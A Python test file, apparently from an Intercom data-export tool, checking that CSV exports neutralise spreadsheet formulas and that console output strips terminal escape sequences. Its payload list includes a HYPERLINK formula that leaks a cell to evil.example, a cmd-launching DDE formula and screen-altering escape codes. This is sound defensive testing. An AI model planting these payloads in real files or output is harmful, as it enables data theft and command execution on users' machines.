"""What comes from a workspace steers neither a table program nor a terminal."""

import asyncio
import csv
import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Final

import pytest
from backports import zstd

from intercom_async.export.store import Identity
from intercom_async.export.tables import convert
from tests.export.one_stream import OneStream
from tests.transport.scripted import Server, status

FORMULAS: Final = [
    '=HYPERLINK("http://evil.example?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
]
# Clears the screen, sets the title, rings, turns the text round, and in eight bits.
STEERING: Final = "a\x1b[2J\x1b]0;title\x07\u202eb\x9b31m\x00c"


@pytest.mark.parametrize("raw", [False, True], ids=["columns", "raw"])
def test_no_cell_of_a_csv_is_a_formula(tmp_path: Path, raw: bool) -> None:
    lines = [
        json.dumps(
            {
                "id": text if number else "1",
                "state": text,
                "title": text,
                "created_at": 1_700_000_000,
                "source": {"subject": text, "body": text, "author": {"name": text, "email": text}},
                "custom_attributes": {text: text},
                "conversation_parts": {
                    "conversation_parts": [{"id": text, "body": text, "author": {"name": text}}]
                },
            }
        )
        for number, text in enumerate(FORMULAS)
    ]
    (tmp_path / "conversations").mkdir()
    data = zstd.compress("".join(f"{line}\n" for line in lines).encode())
    (tmp_path / "conversations" / "created=a.ndjson.zst").write_bytes(data)
    made = convert(tmp_path, tmp_path / "out", "csv", raw=raw)
    assert {"conversations.csv", "conversation_parts.csv"} <= {file.name for file in made.files}
    texts: set[str] = set()
    for file in made.files:
        with file.open(newline="", encoding="utf-8") as table:
            cells = [cell for row in csv.reader(table) for cell in row]
        assert not [cell for cell in cells if cell.startswith(tuple("=+-@\t\r\n"))]
        texts.update(cell.removeprefix("'") for cell in cells)
    assert set(FORMULAS) <= texts  # and nothing of it is lost


def command(*arguments: str, **environment: str) -> "subprocess.CompletedProcess[str]":
    clean = {name: value for name, value in os.environ.items() if "INTERCOM" not in name}
    return subprocess.run(  # noqa: S603  # the command under test
        [sys.executable, "-m", "intercom_async", *arguments],
        env=clean | environment | {"PYTHONIOENCODING": "utf-8"},
        capture_output=True,
        encoding="utf-8",
        check=False,
        timeout=60,
    )


def assert_plain(text: str) -> None:
    assert "a\N{REPLACEMENT CHARACTER}" in text
    assert not [c for c in text if not c.isprintable() and c != "\n"]


def test_no_name_from_a_workspace_steers_the_terminal(tmp_path: Path) -> None:
    with OneStream.open(tmp_path / "ws", Identity(STEERING, "2.10", None, None, True, ())):
        pass
    done = command("status", str(tmp_path / "ws"))
    assert done.returncode == 0
    assert_plain(done.stdout)


@pytest.mark.long
async def test_no_message_of_the_api_steers_the_terminal(peer: Server) -> None:
    body = json.dumps({"type": "error.list", "errors": [{"code": "x", "message": STEERING}]})
    peer.usual = status("401 x", body=body.encode())
    done = await asyncio.to_thread(
        command, "plan", INTERCOM_BASE_URL=peer.url, INTERCOM_ACCESS_TOKEN="dG9rOm91dHB1dA"
    )
    assert done.returncode == 4
    assert_plain(done.stderr)
